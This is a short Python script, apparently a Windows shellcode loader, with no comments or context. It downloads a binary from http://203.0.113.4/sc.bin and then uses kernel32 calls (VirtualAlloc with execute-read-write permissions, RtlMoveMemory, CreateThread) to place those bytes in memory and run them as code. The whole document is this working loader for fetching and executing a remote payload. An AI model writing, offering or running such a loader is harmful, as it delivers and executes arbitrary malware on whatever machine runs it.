import ctypes, urllib.request
code = urllib.request.urlopen("http://203.0.113.4/sc.bin").read()
k = ctypes.windll.kernel32
p = k.VirtualAlloc(None, len(code), 0x3000, 0x40)
k.RtlMoveMemory(p, code, len(code))
h = k.CreateThread(None, 0, p, None, 0, None)
k.WaitForSingleObject(h, -1)
